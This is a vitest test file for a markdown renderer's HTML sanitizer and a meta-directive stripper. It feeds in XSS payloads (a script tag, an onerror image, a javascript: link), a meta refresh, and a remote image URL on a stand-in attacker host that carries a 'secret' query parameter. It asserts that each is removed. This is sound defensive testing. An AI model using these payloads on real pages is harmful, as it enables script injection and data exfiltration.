import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown";

describe("renderMarkdown", () => {
  it("removes script, event handlers and javascript: links", () => {
    const html = renderMarkdown('<script>alert(1)</script>\n\n<img src=x onerror="alert(2)">\n\n[x](javascript:alert(3)) **ok**');
    expect(html).not.toMatch(/script|onerror|javascript:/i);
    expect(html).toContain("<strong>ok</strong>");
  });

  it("drops remote images (a route to exfiltrate data) and keeps inline ones", () => {
    expect(renderMarkdown("![](https://evil.example/?d=secret)")).not.toContain("evil.example");
    expect(renderMarkdown("![p](data:image/png;base64,iVBORw0KGgo=)")).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  it("opens links in a new tab without an opener", () => {
    expect(renderMarkdown("[docs](https://example.org)")).toContain('rel="noopener noreferrer nofollow"');
  });
});

import { withoutMetaDirectives } from "./frame-doc";

describe("withoutMetaDirectives", () => {
  it("drops meta refresh and friends from output HTML, keeping the rest", () => {
    const out = withoutMetaDirectives('<meta http-equiv="refresh" content="0;url=/x"><meta charset="utf-8"><p id="a">kept</p>');
    expect(out).not.toContain("refresh");
    expect(out).toContain('<p id="a">kept</p>');
  });
});
